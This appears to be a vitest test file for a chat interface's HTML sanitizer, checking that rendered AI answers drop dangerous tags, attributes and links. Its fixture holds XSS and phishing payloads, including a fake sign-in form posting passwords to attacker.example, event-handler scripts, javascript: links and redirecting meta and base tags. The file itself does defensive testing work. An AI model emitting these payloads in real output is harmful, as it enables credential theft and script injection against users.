// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { answerParts, sanitizeChatHtml } from './answer-html';

/** The rendered prose of an answer, parsed back into a DOM to look for what must not be there. */
function render(markdown: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = answerParts(markdown)
    .map((part) => (part.kind === 'html' ? part.html : ''))
    .join('');
  return host;
}

const HOSTILE_ANSWER = [
  'Here is the fix.',
  '<style>body { display: none } .workbench { opacity: 0 }</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:white">Session expired. Sign in again:',
  '<form action="https://attacker.example/steal" method="post"><input name="password" type="password">',
  '<button type="submit">Sign in</button></form></div>',
  '<iframe src="https://attacker.example"></iframe><object data="x.swf"></object><embed src="x">',
  '<img src="x" onerror="alert(1)"><svg onload="alert(2)"><foreignObject><p>svg</p></foreignObject></svg>',
  '<a href="javascript:alert(3)">click</a> <a href="data:text/html,<script>alert(4)</script>">data</a>',
  '[markdown link](javascript:alert(5)) <span class="modal-backdrop" id="pa" data-x="1">clobber</span>',
  '<details open><summary>more</summary>hidden</details><textarea>t</textarea><select><option>o</option></select>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example"><link rel="stylesheet" href="x.css">',
  '<base href="https://attacker.example/"><script>alert(6)</script>',
  '- [x] a task list item',
].join('\n');

describe('chat answers', () => {
  it('render none of the hostile elements a model answer can carry', () => {
    const dom = render(HOSTILE_ANSWER);
    const forbidden =
      'style, form, input, button, textarea, select, option, iframe, object, embed, img, svg, foreignObject, ' +
      'details, summary, meta, link, base, script, div, span';
    expect([...dom.querySelectorAll(forbidden)].map((element) => element.tagName)).toEqual([]);
    expect(dom.querySelectorAll('[style], [class], [id], [data-x], [onerror], [onload]')).toHaveLength(0);
    expect(dom.textContent).not.toContain('display: none'); // a stylesheet's text is not left behind either
  });

  it('keep no link that runs script or loads data, only the link text', () => {
    const dom = render(HOSTILE_ANSWER);
    for (const link of dom.querySelectorAll('a')) expect(link.hasAttribute('href')).toBe(false);
    expect(dom.textContent).toContain('markdown link');
  });

  it('keep the Markdown of an ordinary answer: headings, lists, emphasis, inline code, tables, quotes', () => {
    const dom = render(
      '# Title\n\nSome **bold**, _em_, ~~gone~~ and `code`.\n\n1. one\n2. two\n\n> quoted\n\n' +
        '| a | b |\n|:--|--:|\n| 1 | 2 |\n\n---\n',
    );
    expect([...dom.children].map((element) => element.tagName)).toEqual(['H1', 'P', 'OL', 'BLOCKQUOTE', 'TABLE', 'HR']);
    expect(dom.querySelector('strong')?.textContent).toBe('bold');
    expect(dom.querySelector('em')?.textContent).toBe('em');
    expect(dom.querySelector('del')?.textContent).toBe('gone');
    expect(dom.querySelector('code')?.textContent).toBe('code');
    expect(dom.querySelector('th')?.getAttribute('align')).toBe('left');
    expect(render('3. three\n4. four').querySelector('ol')?.getAttribute('start')).toBe('3');
  });

  it('open a web link outside the workbench, without handing it the opener', () => {
    const link = render('See [the docs](https://example.com/docs "Docs").').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com/docs');
    expect(link?.getAttribute('title')).toBe('Docs');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('hand code blocks to the code component as text, never as HTML', () => {
    const parts = answerParts('Before\n\n```html\n<form><input></form>\n```\n\nAfter');
    expect(parts).toEqual([
      { kind: 'html', html: '<p>Before</p>\n' },
      { kind: 'code', code: '<form><input></form>', lang: 'html' },
      { kind: 'html', html: '<p>After</p>\n' },
    ]);
  });

  it('sanitise raw HTML with the same allow-list', () => {
    expect(sanitizeChatHtml('<p style="position:fixed">x</p><form><input></form>')).toBe('<p>x</p>');
  });

  it('make path:line citations links the panel opens, in prose and inline code, but not in URLs or web links', () => {
    const dom = render(
      'See src/users.ts:12, `lib/auth.py:3-9` and [src/a.ts:1](https://example.com). Not https://host.example/x.ts:8.',
    );
    const cites = [...dom.querySelectorAll('a.ai-cite')] as HTMLElement[];
    expect(cites.map((cite) => [cite.textContent, cite.dataset.path, cite.dataset.line])).toEqual([
      ['src/users.ts:12', 'src/users.ts', '12'],
      ['lib/auth.py:3-9', 'lib/auth.py', '3'],
    ]);
    expect(cites[0]?.hasAttribute('href')).toBe(false);
    expect(dom.querySelector('a[href="https://example.com"]')?.textContent).toBe('src/a.ts:1');
    // the answer itself still cannot bring a class: only our own links have one
    expect(render('<a class="ai-cite" data-path="x.ts" data-line="1">x</a>').querySelectorAll('[class]')).toHaveLength(
      0,
    );
  });

  it('look for citations in linear time, whatever a hostile answer holds', () => {
    const started = performance.now();
    const dots = render(`${'a.'.repeat(50_000)}x:1 ${'a/'.repeat(50_000)}b.ts:2 ${'a.a/'.repeat(100)}c.ts:3`);
    expect(performance.now() - started).toBeLessThan(2_000);
    // the bounded word is still a citation; the 100 KB ones are text
    expect([...dots.querySelectorAll('a.ai-cite')].map((cite) => (cite as HTMLElement).dataset.line)).toEqual(['3']);
  });
});
